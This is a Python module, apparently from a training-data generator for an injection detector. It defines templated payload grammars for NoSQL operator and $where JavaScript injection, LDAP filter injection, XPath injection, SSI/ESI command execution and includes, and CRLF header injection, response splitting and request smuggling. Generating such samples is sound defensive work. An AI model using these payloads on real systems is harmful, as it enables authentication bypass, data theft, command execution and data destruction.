"""Other query languages and text protocols: document databases, directories, XPath, includes, header lines."""

from portcullis_train.attack.expand import Grammar

TABLES = {
    "op": ["$ne", "$gt", "$gte", "$lt", "$regex", "$nin", "$exists", "$in", "$where", "$not", "$eq", "$type", "$or"],
    "field": ["username", "password", "user", "email", "login", "«word»", "token", "id", "role"],
    "attr": ["uid", "cn", "mail", "userPassword", "objectClass", "sn", "memberOf", "sAMAccountName", "givenName", "«word»", "ou"],
    "mongojs": ["this.«field»=='«word»'", "sleep(«num»)", "1==1", "true", "this.«field».match(/^«word»/)", "function(){return true}", "var d=new Date();do{c=new Date()}while(c-d<«num»)", "this.«field».length>«n»", "db.«word».drop()", "Object.keys(this)[«n»]"],
    "node": ["user", "node()", "*", "«word»", "users/user", "text()", "name()", "account", "/*[1]/*[«n»]"],
}

GRAMMARS = [
    Grammar("nosql", [
        "{\"«op»\": \"«word»\"}", "{\"«op»\": null}", "{\"«op»\": \"\"}", "{\"«field»\": {\"«op»\": \"«word»\"}, \"password\": {\"«op»\": \"\"}}", "{\"$gt\": \"\"}", "{\"$ne\": null}", "{\"$ne\": «num»}", "{\"$regex\": \"^«word»\"}", "{\"$regex\": \".*\"}",
        "{\"$where\": \"«mongojs»\"}", "{\"$or\": [{\"«field»\": \"«word»\"}, {}]}", "{\"$or\":[{},{\"a\":\"a\"}]}", "{\"$in\": [\"admin\", \"root\", \"«word»\"]}", "{\"$nin\": [\"«word»\"]}", "{\"$exists\": true}", "[$ne]=«num»", "[$regex]=.*", "[$gt]=", "[$exists]=true", "[$nin][]=«word»", "[$where]=«mongojs»",
        "' || '1'=='1", "'; return «mongojs»; var «word»='", "' && «mongojs» && '", "'||«mongojs»//", "1; return «mongojs»", "\"; return true; var a=\"", "'; sleep(«num»); var x='", "true, $where: '«mongojs»'", ", $where: '«mongojs»'", "$where: «mongojs»", "«word»' || this.«field» == '«word»", "{$gt: ''}", "'+sleep(«num»)+'", "db.«word».find({«field»:{«op»:1}})",
        "'; db.«word».insert({«field»:1}); '", "1'; while(1);'", "a'; return this.«field» != 'x'; var d='!", "' || «mongojs» || 'a'=='b", "{\"$expr\": {\"$function\": {\"body\": \"«mongojs»\", \"args\": [], \"lang\": \"js\"}}}", "||«mongojs»", "{ $ne: 1 }", "{\"$comment\":\"«word»\",\"«op»\":0}"], TABLES),
    Grammar("ldap", [
        "*)(«attr»=*", "*)(«attr»=*))(|(«attr»=*", "«word»)(«attr»=*)", "*)(|(«attr»=*", "«word»*)(«attr»=«word»*)", "(«attr»=*)", "(|(«attr»=*)(«attr»=*))", "(&(«attr»=«word»)(«attr»=*))", "*))%00", "«word»))(|(«attr»=*))", "admin)(&)", "admin)(!(&(|", "*()|&'", "*)(&", "«word»)(&))(«attr»=", "(!(«attr»=«word»))",
        "*)(«attr»>=a", "*)(«attr»=*)(&", "x*)((|(«attr»=*)", "*(|(«attr»=*))", "«attr»=*)(|(«attr»=*", "admin*)((|userPassword=*)", "*))(&(«attr»=*", "«word»)(|(«attr»~=«word»", "))(cn=*", "%2a%29%28«attr»%3d%2a", "\\2a\\29\\28«attr»=\\2a", "*)(objectClass=«word»*))(&(1=0", "(«attr»:caseExactMatch:=«word»)"], TABLES),
    Grammar("xpath", [
        "' or '1'='1", "' or ''='", "x' or 1=1 or 'x'='y", "'] | //«node» | //*['", "') or count(//«node»)>«n» or ('", "' or name()='«word»' or 'x'='y", "//«node»", "//*", "/«node»/«node»[1]", "count(/child::node())", "' or position()=«n» or '", "' and string-length(name(/*[1]))=«n» and '1'='1",
        "substring(//user[1]/«word»,1,1)='a'", "' or contains(name,'«word»') or '", "'] | //user/*[contains(*,'«word»", "1 or //«node»", "\" or \"a\"=\"a", "' and doc('http://«host»/«word»')", "' or starts-with(name(),'«word»') or '", "') and substring-before('«word»','a')=('", "//user[name='«word»' or 1=1]/password", "ancestor::*/descendant::«word»", "' and count(../@*)=«n» and '"], TABLES),
    Grammar("ssi", [
        "<!--#exec cmd=\"«cmd»\" -->", "<!--#include virtual=\"/«word»\"-->", "<!--#include file=\"«file»\"-->", "<!--#echo var=\"DATE_LOCAL\" -->", "<!--#printenv -->", "<!--#exec cgi=\"/cgi-bin/«word»\"-->", "<!--#config timefmt=\"%A\"-->", "<!--#set var=\"«word»\" value=\"«word»\"-->", "<esi:include src=\"http://«host»/«word»\"/>",
        "<esi:include src=http://«host»/>", "<esi:vars>$(HTTP_COOKIE)</esi:vars>", "<!--esi «word» -->", "<!--#fsize file=\"«file»\"-->", "<!--#flastmod virtual=\"«word».html\"-->", "<esi:inline name=\"/«word»\" fetchable=\"yes\"><script>«js»</script></esi:inline>", "<!--#if expr=\"«word»\" -->"], TABLES),
    Grammar("crlf", [
        "%0d%0aSet-Cookie:«word»=«word»", "\r\nSet-Cookie: «word»=«word»", "«word»\r\nLocation: http://«host»", "%0d%0a%0d%0a<script>«js»</script>", "\r\n\r\n<html>«word»</html>", "%0aX-«word»: «word»", "%E5%98%8A%E5%98%8DSet-Cookie:«word»=«num»", "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n«word»",
        "/«word»%0d%0aLocation:%20//«host»", "\nBcc: «word»@«host»", "%0aCc:«word»@«host»%0a", "«word»@«host»\nSubject: «word»", "%23%0d%0aHost: «host»", "\r\nX-Forwarded-For: 127.0.0.1", "%250d%250aSet-Cookie:«word»", "%0dX-XSS-Protection:0", "«word»%0D%0ARefresh:0;url=//«host»", "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /«word» HTTP/1.1\r\nHost: «host»"], TABLES),
]
